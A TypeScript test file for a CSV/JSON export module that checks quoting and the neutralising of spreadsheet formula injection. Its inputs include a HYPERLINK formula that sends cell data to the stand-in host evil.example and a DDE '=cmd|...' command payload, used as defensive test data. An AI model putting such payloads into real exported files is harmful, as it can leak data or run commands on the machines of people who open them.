import { describe, expect, it } from "vitest";
import { toCsv, toJson } from "./export";

/** The fields of each data row of a CSV this module wrote (no field holds a line break here). */
function rows(csv: string): string[][] {
  const lines = csv.trimEnd().split("\n");
  expect(lines[0]).toBe("run,tag,step,wall_time,value");
  return lines.slice(1).map((line) => {
    const fields: string[] = [];
    let rest = line;
    while (rest !== "") {
      const quoted = /^"((?:[^"]|"")*)"(?:,|$)/.exec(rest);
      const plain = /^([^,]*)(?:,|$)/.exec(rest)!;
      const m = quoted ?? plain;
      const text = m[1] ?? "";
      fields.push(quoted ? text.replace(/""/g, '"') : text);
      rest = rest.slice(m[0].length);
    }
    return fields;
  });
}

describe("CSV export", () => {
  it("writes one row per point, quoting fields with commas and quotes", () => {
    const csv = toCsv([
      { run: "train", tag: "loss", points: [[1, 1700000000.5, 0.25], [2, 1700000001, Number.NaN]] },
      { run: 'a,"b"', tag: "x", points: [[3, 1, Infinity]] },
    ]);
    expect(csv).toBe(
      "run,tag,step,wall_time,value\n" +
        "train,loss,1,1700000000.5,0.25\n" +
        "train,loss,2,1700000001,NaN\n" +
        '"a,""b""",x,3,1,Infinity\n',
    );
  });

  // A spreadsheet opening the CSV runs a cell that starts with one of these as a formula (OWASP
  // "CSV injection"); run and tag names come from whoever wrote the logs.
  it.each(["=", "+", "-", "@", "\t", "\r"])("neutralises run and tag names starting with %j", (lead) => {
    const run = `${lead}HYPERLINK("http://evil.example/?"&A1,"click")`;
    const tag = `${lead}1+1`;
    const csv = toCsv([{ run, tag, points: [[0, 1, 2]] }]);
    const [runField, tagField] = rows(csv)[0] ?? [];
    expect(runField).toBe(`'${run}`);
    expect(tagField).toBe(`'${tag}`);
  });

  it("neutralises a formula also when the field needs quoting", () => {
    const csv = toCsv([{ run: '=cmd|"/c calc"!A1', tag: "=1,2", points: [[0, 1, 2]] }]);
    expect(csv.split("\n")[1]).toBe(`"'=cmd|""/c calc""!A1","'=1,2",0,1,2`);
  });

  it("leaves other names as they are, a lead character elsewhere included", () => {
    const csv = toCsv([{ run: "train=1", tag: "a-b@c+d", points: [[0, 1, 2]] }]);
    expect(csv.split("\n")[1]).toBe("train=1,a-b@c+d,0,1,2");
  });

  it("keeps negative and non-finite numbers as numbers", () => {
    const csv = toCsv([{ run: "r", tag: "t", points: [[-3, -1.5, -0.5], [4, 2, -Infinity]] }]);
    expect(csv.split("\n").slice(1, 3)).toEqual(["r,t,-3,-1.5,-0.5", "r,t,4,2,-Infinity"]);
  });
});

describe("JSON export", () => {
  it("keeps names verbatim and writes non-finite values as strings", () => {
    const json = JSON.parse(toJson([{ run: "=r", tag: "-t", points: [[0, 1, Number.NaN], [1, 2, -0.5]] }]));
    expect(json).toEqual([{ run: "=r", tag: "-t", points: [[0, 1, "NaN"], [1, 2, -0.5]] }]);
  });
});
